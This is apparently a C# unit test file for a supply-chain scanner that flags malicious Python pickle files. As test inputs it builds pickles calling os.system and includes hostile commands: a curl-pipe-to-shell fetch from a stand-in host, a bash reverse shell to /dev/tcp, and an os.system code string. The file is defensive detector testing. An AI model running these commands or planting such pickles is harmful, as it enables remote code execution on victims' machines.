using SupplyChainAnalyzers.Core.Findings;
using SupplyChainAnalyzers.Scanner.Tests.Scanning;

namespace SupplyChainAnalyzers.Scanner.Tests.Formats.Pickle;

public class PickleVerdictTests
{
    [Fact]
    public void Data_alone_is_clean() => Assert.Empty(Scanned.Bytes(Samples.Pickle, "m.pkl").Findings);

    [Fact]
    public void Call_of_os_system_is_malicious_and_shows_the_command()
    {
        var finding = Assert.Single(Scanned.Bytes(Pickles.Call("os", "system", "curl http://x.example/a | sh"), "m.pkl").Findings);
        Assert.Equal((Rules.DangerousPickleCall, Severity.Critical, "os.system"), (finding.Rule, finding.Severity, finding.Symbol));
        Assert.Contains("os.system('curl http://x.example/a | sh')", finding.Message);
        Assert.Equal(Pickles.Call("os", "system", "curl http://x.example/a | sh").Length - 2, finding.Offset);
    }

    [Fact]
    public void Import_of_os_system_without_a_call_is_malicious() => Malicious(Pickles.Import("os", "system"), Rules.DangerousPickleCall);

    [Fact]
    public void Object_of_an_unknown_class_with_plain_data_is_suspicious()
    {
        byte[] bytes = [.. Pickles.Protocol(2), .. Pickles.Global("acme.models", "Net"), .. ")\x81}"u8[..1], 0x81, .. "}"u8, .. Pickles.Str("w"), .. "K\x01sb."u8];
        var finding = Assert.Single(Scanned.Bytes(bytes, "m.pkl").Findings);
        Assert.Equal((Rules.UnknownPickleName, Severity.Medium, "acme.models.Net"), (finding.Rule, finding.Severity, finding.Symbol));
    }

    [Fact]
    public void Unknown_function_called_with_text_is_malicious() => Malicious(Pickles.Call("acme", "start", "now"), Rules.UnknownPickleName);

    [Fact]
    public void Unknown_function_called_with_nothing_is_malicious() => Malicious(Pickles.Call("acme", "start"), Rules.UnknownPickleName);

    [Fact]
    public void Unknown_class_called_with_a_command_is_malicious() => Malicious(Pickles.Call("acme", "Runner", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), Rules.AttackInPickleArguments);

    [Fact]
    public void Function_that_rebuilds_an_unknown_object_is_suspicious() =>
        Assert.Equal(Verdict.Suspicious, Scanned.Bytes(Pickles.Call("acme.tree", "_unpickle_tree", "v2"), "m.pkl").Verdict);

    [Fact]
    public void Result_of_a_call_that_is_called_is_malicious() =>
        Malicious([.. Pickles.Global("collections", "OrderedDict"), .. ")R)R."u8], Rules.HiddenPickleCall);

    [Fact]
    public void Name_that_a_call_gave_is_malicious() =>
        Malicious([.. Pickles.Protocol(4), .. Pickles.Str("os"), .. Pickles.Global("_codecs", "encode"), .. "("u8, .. Pickles.Str("system"), .. "tR\x93"u8[..2], 0x93, .. ")R."u8], Rules.HiddenPickleCall);

    [Fact]
    public void Extension_code_is_malicious() => Malicious([0x80, 2, 0x82, 7, .. ")R."u8], Rules.HiddenPickleCall);

    [Fact]
    public void Code_string_for_OrderedDict_is_malicious() => Malicious(Pickles.Call("collections", "OrderedDict", "import os; os.system('id')"), Rules.AttackInPickleArguments);

    [Fact]
    public void Attributes_written_into_a_class_are_malicious() =>
        Malicious([.. Pickles.Global("collections", "OrderedDict"), .. "}"u8, .. Pickles.Str("__init__"), .. Pickles.Global("builtins", "list"), .. "sb."u8], Rules.PickleChangesLoadedCode);

    [Fact]
    public void Items_written_into_a_class_are_malicious() =>
        Malicious([.. Pickles.Global("collections", "OrderedDict"), .. Pickles.Str("k"), .. "Ns."u8], Rules.PickleChangesLoadedCode);

    [Fact]
    public void Setstate_written_into_an_object_is_malicious() =>
        Malicious([.. Pickles.Global("collections", "OrderedDict"), .. ")R}"u8, .. Pickles.Str("__setstate__"), .. Pickles.Global("builtins", "list"), .. "sb."u8], Rules.PickleChangesLoadedCode);

    [Fact]
    public void Module_that_lies_beside_the_file_is_malicious()
    {
        var scanned = Scanned.Bytes(Pickles.Import("helper", "Net"), "m.pkl", "helper.py");
        Assert.Equal(Verdict.Malicious, scanned.Verdict);
        Assert.Contains(Rules.PickleImportsNeighbour, scanned.Doubts);
    }

    [Fact]
    public void Harmless_module_shadowed_by_a_file_is_malicious() =>
        Assert.Contains(Rules.PickleImportsNeighbour, Scanned.Bytes(Pickles.Call("collections", "OrderedDict"), "m.pkl", "collections.py").Doubts);

    [Fact]
    public void Member_of_an_enumeration_by_getattr_counts_as_its_class() => Assert.Empty(Scanned.Bytes(
        [.. Pickles.Global("builtins", "getattr"), .. "("u8, .. Pickles.Global("sklearn.utils._metadata_requests", "RequestType"), .. Pickles.Str("REQUESTED"), .. "tR."u8], "m.pkl").Doubts);

    [Theory]
    [InlineData("__subclasses__")]
    [InlineData("__globals__")]
    [InlineData("mro")]
    public void Getattr_of_a_class_with_another_name_is_judged_by_that_name(string attribute) => Assert.NotEqual(Verdict.Clean, Scanned.Bytes(
        [.. Pickles.Global("builtins", "getattr"), .. "("u8, .. Pickles.Global("collections", "OrderedDict"), .. Pickles.Str(attribute), .. "tR)R."u8], "m.pkl").Verdict);

    [Fact]
    public void Getattr_that_is_handed_on_is_malicious() =>
        Malicious([.. Pickles.Global("collections", "OrderedDict"), .. "("u8, .. Pickles.Global("builtins", "getattr"), .. "tR."u8], Rules.HiddenPickleCall);

    [Theory]
    [InlineData("raw")]
    [InlineData("base64")]
    [InlineData("hex")]
    public void Pickle_in_a_constant_that_an_unknown_class_gets_is_judged(string encoding)
    {
        var inner = Pickles.Call("os", "system", "id");
        var constant = encoding switch { "raw" => Pickles.Bytes(inner), "base64" => Pickles.Str(Convert.ToBase64String(inner)), _ => Pickles.Str(Convert.ToHexString(inner)) };
        var scanned = Scanned.Bytes([.. Pickles.Global("acme", "Loader"), .. "("u8, .. constant, .. "tR."u8], "m.pkl");
        Assert.Contains(scanned.Findings, static finding => finding.Symbol == "os.system" && finding.Member is not null);
    }

    [Fact]
    public void Checkpoint_within_a_pickle_is_judged_by_its_content()
    {
        byte[] Around(byte[] inner) => [.. Pickles.Global("torch.storage", "_load_from_bytes"), .. "("u8, .. Pickles.Bytes(inner), .. "tR."u8];
        Assert.Equal(Verdict.Clean, Scanned.Bytes(Around(Samples.Pickle), "m.pkl").Verdict);
        Assert.Equal(Verdict.Malicious, Scanned.Bytes(Around(Samples.TextPickle), "m.pkl").Verdict);
    }

    [Fact]
    public void Second_pickle_in_a_file_is_judged() => Malicious([.. Samples.Pickle, .. Samples.TextPickle], Rules.DangerousPickleCall);

    [Fact]
    public void Bytes_behind_the_pickle_are_reported() => Assert.Equal([Rules.TrailingData], Scanned.Bytes([.. Samples.Pickle, 1, 2, 3], "m.pkl").Doubts);

    [Fact]
    public void Stream_that_breaks_off_is_never_clean()
    {
        for (var length = 3; length < Samples.Pickle.Length; length++)
            Assert.NotEqual(Verdict.Clean, Scanned.Bytes(Samples.Pickle[..length], "m.pkl").Verdict);
    }

    [Fact]
    public void Frames_that_overlap_are_malicious() => Malicious(
        [0x80, 4, 0x95, 12, 0, 0, 0, 0, 0, 0, 0, 0x95, 1, 0, 0, 0, 0, 0, 0, 0, .. "N0N0N0."u8], Rules.MalformedPickle);

    private static void Malicious(byte[] bytes, Rule rule)
    {
        var scanned = Scanned.Bytes(bytes, "m.pkl");
        Assert.True(scanned.Verdict == Verdict.Malicious && scanned.Doubts.Contains(rule), scanned.ToString());
    }
}
